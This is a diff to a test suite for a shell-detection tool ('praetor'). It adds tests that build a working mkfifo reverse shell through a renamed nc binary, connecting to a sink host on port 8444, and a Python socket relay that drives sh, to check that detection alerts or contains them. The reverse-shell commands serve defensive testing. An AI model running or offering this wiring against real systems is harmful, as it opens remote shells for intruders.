@@ -102,6 +102,38 @@ cat /tmp/p | sh -i 2>&1 | /tmp/sync ${SINK} 8444 >/tmp/p
   assert.ok(!heard.stdout.includes(SHELL_ANSWER), `no shell answered: ${heard.stdout.slice(0, 400)}`);
 });
 
+test('control: the same FIFO + renamed nc shell answers the listener when praetor does not detect', async () => {
+  // Proves the case above can fail: with detection off, this exact wiring is a working shell.
+  const l = listener(8444);
+  await new Promise((r) => setTimeout(r, 300));
+  const job = `cp "$(readlink -f /usr/bin/nc)" /tmp/sync
+rm -f /tmp/p; mkfifo /tmp/p
+cat /tmp/p | sh -i 2>&1 | /tmp/sync -q 1 ${SINK} 8444 >/tmp/p
+`;
+  const c = await h.run('rs-fifo-nc-control', ['sh', 'job.sh'], { files: { 'job.sh': job }, flags: ['--no-detect', '--timeout', '12'] });
+  assert.equal(c.rep.contained, false);
+  const heard = await l;
+  assert.ok(heard.stdout.includes(SHELL_ANSWER), `the shell answered: ${heard.stdout.slice(0, 400)}`);
+});
+
+test('a python relay driving sh over pipes on its own fds: alerted (supervisor wiring), not contained', async () => {
+  // The weaker form: the socket holder reaches the shell's pipes on fds >= 3, as any program
+  // driving a child does. The incubating rule alerts; the run is not killed.
+  const relay = `import socket, subprocess, time
+s = socket.create_connection(("${SINK}", 9001))
+p = subprocess.Popen(["sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
+time.sleep(3)
+p.kill()
+print("relay done")
+`;
+  const c = await h.run('rs-supervisor', ['python3', 'relay.py'], { files: { 'relay.py': relay }, flags: ['--timeout', '20'] });
+  const alert = c.rep.alerts.find((a) => a.rule === 'Shell or interpreter wired to the network through other processes');
+  assert.ok(alert, JSON.stringify(c.rep.alerts.map((a) => a.rule)));
+  assert.deepEqual(alert.actions, ['alert']);
+  assert.ok(!c.rep.alerts.some((a) => a.rule === 'Shell or interpreter looped to a remote host through pipes'), 'not the stable rule');
+  assert.match(c.r.stdout, /relay done/);
+});
+
 test('benign: ls | grep, and a local client/server over a FIFO, beside an open connection', async () => {
   // A long-lived allowed connection is open the whole time, so the graph is scanned, and the
   // shells' pipes lead nowhere near it.
